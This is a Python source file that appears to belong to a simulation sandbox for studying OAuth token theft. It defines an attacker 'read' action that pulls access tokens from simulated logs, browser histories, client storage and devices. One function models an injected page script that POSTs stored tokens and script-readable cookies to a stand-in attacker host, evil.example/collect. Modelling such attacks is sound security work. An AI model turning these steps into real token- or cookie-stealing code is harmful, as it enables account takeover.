@@ -1,0 +1,119 @@
+"""What the attacker reads where it leaks: a log, a history, a storage, a device."""
+
+from __future__ import annotations
+
+from typing import Self
+
+from pydantic import model_validator
+
+from sandbox.core.forms import refuse
+from sandbox.core.wire import first, json_request, pairs, split
+from sandbox.protocol.cast import EVIL
+from sandbox.verbs.names import BrowserName, ClientName, Party
+from sandbox.verbs.theft import held_by, keep_keys, keep_tokens
+from sandbox.verbs.values import Text
+from sandbox.verbs.verb import TOKENS, Args, Outputs, verb
+from sandbox.world.parties.browser import Browser
+from sandbox.world.parties.client import Session
+from sandbox.world.parties.client_hosts import Hosted
+from sandbox.world.world import World
+
+
+class Read(Args):
+    """Read one source that leaks - a log, a browser's history, a client's storage, a whole device.  Without it she learns nothing."""
+
+    log: Party | None = None
+    history: BrowserName | None = None
+    storage: ClientName | None = None
+    device: BrowserName | None = None
+    browser: BrowserName | None = None
+    match: Text | None = None
+    take: bool = False
+
+    @model_validator(mode="after")
+    def _one_source(self) -> Self:
+        self.one_of(("log", "history", "storage", "device"))
+        if self.browser is not None and self.storage is None:
+            raise refuse("`browser` says whose `storage` is read, and there is no `storage`", "remove `browser`, or read a storage")
+        return self
+
+
+@verb(
+    by=("attacker",),
+    gives=("url", *TOKENS, "request"),
+    wire="nothing (internal); with storage and browser, a script in the page posts what it finds to evil.example",
+)
+def read(world: World, actor: str, args: Read) -> Outputs:
+    if args.log is not None:
+        return _read_log(world, args.log, args.match)
+    if args.history is not None:
+        return _read_address(world, world.browsers[args.history].history, args.match, f"the history of {args.history}")
+    if args.storage is not None:
+        return _read_storage(world, args.storage, args.browser, args.take)
+    return _read_device(world, args.device or "")
+
+
+def _read_log(world: World, party: str, match: str | None) -> Outputs:
+    """The newest entry that matches.  An API writes down requests; a browser's extension writes down addresses."""
+    if party in world.browsers:
+        return _read_address(world, world.browsers[party].addresses, match, f"an extension in {party}")
+    entries = world.apis[party].log if party in world.apis else []
+    entry = next((r for r in reversed(entries) if match is None or match in r.url), None)
+    if entry is None:
+        return {"request": None, "url": None, "access_token": None}
+    for name, value in (("url", entry.url), *entry.headers):
+        if value:
+            world.net.learned(world.attacker.name, name.lower(), value, f"the log of {party}")
+    credential = entry.credential()
+    token = credential[1] if credential else first(entry.query, "access_token")
+    if token and set(token) != {"*"}:
+        world.net.learned(world.attacker.name, "access_token", token, f"the log of {party}")
+        return {"request": entry, "url": entry.url, "access_token": token}
+    return {"request": None, "url": entry.url, "access_token": None}
+
+
+def _read_address(world: World, addresses: list[str], match: str | None, source: str) -> Outputs:
+    """The newest address that matches, and the token in it if there is one."""
+    url = next((u for u in reversed(addresses) if match is None or match in u), None)
+    if url is None:
+        return {"url": None, "access_token": None}
+    world.net.learned(world.attacker.name, "url", url, source)
+    parts = split(url)
+    return {"url": url, "access_token": first(pairs(parts.fragment), "access_token") or first(pairs(parts.query), "access_token")}
+
+
+def _read_storage(world: World, name: str, browser: str | None, take: bool) -> Outputs:
+    """All that a client has stored: on its server, or in one browser."""
+    client = world.clients[name]
+    if browser is None:
+        return keep_tokens(world, client.sessions.values(), f"the storage of {name}")
+    session = client.stored(world.browsers[browser])
+    if client.in_page:
+        out = _report(client, world.browsers[browser], session)
+    else:
+        out = keep_tokens(world, [session] if session else [], f"the storage of {name} in {browser}")
+    if take and session is not None:
+        session.tokens.clear()
+        session.refresh_token = session.id_token = ""
+    return out
+
+
+def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
+    """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
+    jar = browser.cookies.get(split(client.home).netloc, {})
+    cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
+    held = held_by(session)
+    storage = {k: v for k, v in held.items() if v}
+    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
+    return held
+
+
+def _read_device(world: World, device: str) -> Outputs:
+    """Everything on a device: the tokens that clients keep there, and the keys that they cannot export but she can now use."""
+    found: list[Session] = []
+    for client in world.clients.values():
+        session = client.sessions.get(device)  # clients on a web server keep nothing here
+        if session is not None and session.tokens:
+            found.append(session)
+            keep_keys(world, client, device, device)
+    return keep_tokens(world, found, device)
